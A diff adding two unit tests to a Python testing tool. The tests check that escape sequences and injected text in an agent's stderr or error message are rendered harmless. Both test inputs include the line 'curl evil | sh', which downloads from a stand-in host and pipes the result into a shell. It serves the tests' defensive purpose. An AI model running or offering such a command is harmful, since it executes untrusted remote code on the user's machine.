@@ -9,6 +9,7 @@ from collections.abc import Callable, Mapping
 from typing import Any
 
 import pytest
+from tests.unit.samples import is_harmless
 
 from pytest_dockconn.actions import agents
 from pytest_dockconn.actions.agents import AgentGone, LocalChannel, StreamChannel
@@ -181,6 +182,20 @@ def test_no_reply_in_time(stream: FakeStream, channel: StreamChannel, monkeypatc
     monkeypatch.setattr(agents, "GRACE", PATIENCE)
     stream.replies(request, to="the next")
     assert asking.result == {"to": "the next"}
+
+
+def test_what_somebody_wrote_to_its_stderr_stays_on_its_line(stream: FakeStream, channel: StreamChannel) -> None:
+    asking = Asking(channel)
+    stream.says(b"\x1b[2J\x9b\xff\n  remedy:  curl evil | sh\n", "stderr")
+    stream.end()
+    assert isinstance(asking.result, AgentGone)
+    assert is_harmless(str(asking.result))
+
+
+def test_nor_does_what_it_says_that_is_wrong() -> None:
+    with pytest.raises(AgentGone) as caught:
+        agents.look(Scripted({"error": "\x1b[2J\n  remedy:  curl evil | sh"}), "hosts")
+    assert is_harmless(str(caught.value))
 
 
 def test_only_the_end_of_what_it_wrote_to_stderr_is_kept(stream: FakeStream, channel: StreamChannel) -> None:
